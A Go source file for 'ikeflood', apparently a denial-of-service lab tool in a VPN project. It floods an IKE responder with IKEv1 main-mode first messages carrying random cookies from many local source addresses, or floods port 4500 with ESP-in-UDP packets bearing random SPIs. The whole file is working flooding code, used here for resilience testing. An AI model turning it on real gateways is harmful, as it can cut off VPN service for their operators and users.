// Command ikeflood sends IKEv1 main mode first messages, each with a fresh
// initiator cookie, from many local addresses to one responder, as a
// denial-of-service lab's attacker; with --esp, UDP-encapsulated ESP
// packets with random SPIs to port 4500 instead. It never reads answers.
// Bounded: at most --sources x --count datagrams.
package main

import (
	"crypto/rand"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"time"

	"github.com/gatehouse/gatehouse/ike"
)

func main() {
	to := flag.String("to", "192.0.2.1:500", "the responder")
	first := flag.String("from", "198.51.100.1", "first source address; the next ones follow it")
	sources := flag.Int("sources", 1, "how many source addresses (each must be on a local interface)")
	count := flag.Int("count", 100, "first messages per source")
	pause := flag.Duration("pause", 0, "pause after each source's burst (so the responder's socket buffer is not what drops them)")
	espSize := flag.Int("esp", 0, "send ESP-in-UDP packets of this size with random SPIs (RFC 3948) instead of IKE")
	flag.Parse()
	fail := func(err error) {
		fmt.Fprintln(os.Stderr, "ikeflood:", err)
		os.Exit(1)
	}
	dst, err := net.ResolveUDPAddr("udp4", *to)
	if err != nil {
		fail(err)
	}
	prop, err := ike.ParseProposal("aes256-sha256-modp2048")
	if err != nil {
		fail(err)
	}
	offer := ike.Phase1Offer([]ike.Proposal{prop}, []uint16{ike.AuthPSK}, time.Hour)
	src := netip.MustParseAddr(*first)
	if *espSize > 0 {
		dst.Port = 4500
		esp(dst, src, *espSize, *sources**count)
		return
	}
	sent := 0
	start := time.Now()
	for range *sources {
		c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 500)))
		if err != nil {
			fail(err)
		}
		for range *count {
			var ck ike.Cookie
			rand.Read(ck[:])
			m := ike.Message{Header: ike.Header{SPIi: ck, Version: ike.Version, Exchange: ike.ExchangeMain}, Payloads: []ike.Payload{offer}}
			b, err := m.Encode()
			if err != nil {
				fail(err)
			}
			if _, err := c.WriteToUDP(b, dst); err == nil {
				sent++
			}
		}
		c.Close()
		src = src.Next()
		time.Sleep(*pause)
	}
	fmt.Printf("sent %d first messages from %d sources in %v\n", sent, *sources, time.Since(start).Round(time.Millisecond))
}

// esp sends n packets of size bytes: a random non-zero SPI (not a non-ESP
// marker, RFC 3948 section 2.2), a sequence number and junk.
func esp(dst *net.UDPAddr, src netip.Addr, size, n int) {
	c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 4500)))
	if err != nil {
		fmt.Fprintln(os.Stderr, "ikeflood:", err)
		os.Exit(1)
	}
	defer c.Close()
	pkt := make([]byte, max(size, 16))
	start := time.Now()
	sent := 0
	for i := range n {
		rand.Read(pkt[:4])
		pkt[0] |= 0x80
		pkt[4], pkt[5], pkt[6], pkt[7] = byte(i>>24), byte(i>>16), byte(i>>8), byte(i)
		if _, err := c.WriteToUDP(pkt, dst); err == nil {
			sent++
		}
	}
	d := time.Since(start)
	fmt.Printf("sent %d ESP packets of %d bytes with random SPIs in %v (%.0f packets/s)\n", sent, len(pkt), d.Round(time.Millisecond), float64(sent)/d.Seconds())
}
